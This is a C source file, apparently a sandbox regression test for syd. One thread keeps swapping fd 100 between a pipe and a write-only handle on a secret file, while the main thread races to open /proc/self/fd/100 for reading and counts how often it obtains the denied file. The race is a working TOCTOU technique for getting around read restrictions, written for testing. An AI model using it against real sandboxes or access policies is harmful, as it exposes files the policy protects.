/* A magic-link TOCTOU attacker: while the main thread opens /proc/self/fd/100 for reading,
 * another thread keeps dup2-ing a pipe's read end and a write-only fd of DIR/secret onto fd 100.
 * The kernel reopens what fd 100 holds when it follows the link, so a write-only fd becomes a
 * readable fd of a file the policy denies reading, unless syd opens what it judged.
 * Usage: race_procfd DIR ITERATIONS SECONDS
 * Prints: "tries=N wins=W pipes=P" (W: opens that gave DIR/secret; 0 under syd when reading it is
 * denied; P: opens that gave the pipe, which must keep working). */
#include "reach.h"
#include <pthread.h>
#include <sys/stat.h>

static int pipe_fd, secret_fd;

static void *swap(void *arg) {
  (void)arg;
  for (;;) {
    dup2(secret_fd, 100);
    dup2(pipe_fd, 100);
  }
  return NULL;
}

int main(int argc, char **argv) {
  require_sandbox("race_procfd");
  check_args(argc == 4, "race_procfd DIR ITERATIONS SECONDS");
  char path[4096];
  snprintf(path, sizeof path, "%s/secret", argv[1]);
  secret_fd = open(path, O_WRONLY | O_CLOEXEC);
  int fds[2];
  struct stat secret, pipe_st;
  if (secret_fd < 0 || pipe2(fds, O_CLOEXEC) != 0 || fstat(secret_fd, &secret) != 0) return 1;
  if (fstat(fds[0], &pipe_st) != 0) return 1;
  pipe_fd = fds[0];
  dup2(pipe_fd, 100);
  long iterations = atol(argv[2]);
  double deadline = now() + atof(argv[3]);
  pthread_t t;
  pthread_create(&t, NULL, swap, NULL);
  long tries = 0, wins = 0, pipes = 0;
  for (; tries < iterations && now() < deadline; tries++) {
    int fd = open("/proc/self/fd/100", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) continue;
    struct stat st;
    if (fstat(fd, &st) == 0) {
      if (st.st_ino == secret.st_ino && st.st_dev == secret.st_dev) wins++;
      else if (st.st_ino == pipe_st.st_ino) pipes++;
    }
    close(fd);
  }
  printf("tries=%ld wins=%ld pipes=%ld\n", tries, wins, pipes);
  return 0;
}
